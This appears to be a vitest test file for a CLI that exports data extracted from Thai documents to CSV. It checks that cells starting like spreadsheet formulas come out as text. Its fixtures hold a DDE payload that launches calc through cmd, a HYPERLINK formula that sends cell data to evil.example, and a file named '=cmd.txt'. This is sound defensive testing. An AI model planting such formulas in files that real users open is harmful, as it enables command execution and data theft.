/**
 * CSV formula injection: text from the documents (and their paths) that a
 * spreadsheet would run as a formula is written as text, in -f csv and in
 * --summary, unless --csv-formulas.
 */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseFormula } from '../src/batch/csv.js';
import { SUMMARY_COLUMNS, summaryLine, type SummaryRow } from '../src/batch/summary.js';
import { runCli } from '../src/cli/main.js';
import { CSV_COLUMNS } from '../src/cli/csv.js';
import { parseCsv } from './batch/_csv.js';
import { sink } from './_support/cli.js';
import { readCorpus } from './_support/variants.js';

const CMD = `+cmd|' /C calc'!A0`;
const LINK = `=HYPERLINK("http://evil.example/?"&A1,"คลิก")`;

async function run(argv: string[]) {
  const out = sink();
  const err = sink();
  const code = await runCli(argv, { stdout: out.stream, stderr: err.stream });
  return { code, stdout: out.text(), stderr: err.text() };
}

let dir = '';
let doc = '';
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'ita-cli-csv-'));
  // corpus 003 with two measures that are formulas (its table rows are tab-separated: number, measure, period, responsible)
  let text = readCorpus('003_592d1508f0de56c3');
  for (const [n, formula] of [['๒', CMD], ['๓', LINK]] as const) {
    const row = text.split('\n').find((l) => l.startsWith(`${n}\t`))!;
    const cells = row.split('\t');
    text = text.replace(row, [cells[0], formula, ...cells.slice(2)].join('\t'));
  }
  doc = join(dir, '=cmd.txt');
  await writeFile(doc, text);
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

const cellsOf = (csv: string) => {
  const [header, ...rows] = parseCsv(csv.replace(/^\uFEFF/, ''));
  return { header: header!, rows };
};

describe('CSV formula injection', () => {
  it('-f csv writes formula cells from the document as text', async () => {
    const json = JSON.parse((await run(['-f', 'json', doc])).stdout) as Array<{ entries: Array<{ fields: { measure: string | null } }> }>;
    // the JSON keeps the text as it is
    expect(json[0]!.entries.map((e) => e.fields.measure)).toEqual(expect.arrayContaining([CMD, LINK]));

    const r = await run(['-f', 'csv', doc]);
    expect(r.code).toBe(0);
    const { header, rows } = cellsOf(r.stdout);
    expect(header).toEqual([...CSV_COLUMNS]);
    const col = (name: string) => header.indexOf(name);
    const all = rows.flat();
    // no cell of the whole CSV starts like a formula, unless it is a plain number
    for (const cell of all) if (/^[=+\-@\t\r]/.test(cell)) expect(cell, cell).toMatch(/^-?\d+(\.\d+)?$/);
    expect(rows.map((row) => row[col('measure')])).toEqual(expect.arrayContaining([`'${CMD}`, `'${LINK}`]));

    const raw = cellsOf((await run(['-f', 'csv', '--csv-formulas', doc])).stdout);
    expect(raw.rows.map((row) => row[col('measure')])).toEqual(expect.arrayContaining([CMD, LINK]));
  });

  it('--summary neutralises the path column (a relative path that starts with =) and --csv-formulas keeps it', async () => {
    const cwd = process.cwd();
    process.chdir(dir);
    try {
      for (const [flags, expected] of [[[], `'=cmd.txt`], [['--csv-formulas'], '=cmd.txt']] as const) {
        const summary = join(dir, `summary${flags.length}.csv`);
        const r = await run(['--summary', summary, ...flags, '=cmd.txt']);
        expect(r.code).toBe(0);
        const { header, rows } = cellsOf(await readFile(summary, 'utf8'));
        expect(header).toEqual([...SUMMARY_COLUMNS]);
        expect(rows[0]![header.indexOf('path')]).toBe(expected);
        expect(rows[0]![header.indexOf('status')]).toBe('ok');
      }
    } finally {
      process.chdir(cwd);
    }
  });

  it('leaves plain numbers alone, negative ones included, and neutralises the rest of the OWASP starts', () => {
    const row = Object.fromEntries(SUMMARY_COLUMNS.map((c) => [c, null])) as SummaryRow;
    Object.assign(row, { path: '@SUM(A1:A9)', error_message: '\tx', organization: '\r=1', province: '-5', overall_score: -5, level: '-', section_numbers: '- รายการ' });
    const [cells] = parseCsv(summaryLine(row));
    const at = (c: string) => cells![SUMMARY_COLUMNS.indexOf(c as never)];
    expect([at('path'), at('error_message'), at('organization'), at('province'), at('overall_score'), at('level'), at('section_numbers')]).toEqual([
      "'@SUM(A1:A9)", "'\tx", "'\r=1", '-5', '-5', "'-", "'- รายการ",
    ]);
    expect(neutraliseFormula('87.35')).toBe('87.35');
    expect(neutraliseFormula('+66 2 123 4567')).toBe("'+66 2 123 4567");
    expect(neutraliseFormula('ข้อ ๑')).toBe('ข้อ ๑');
  });
});
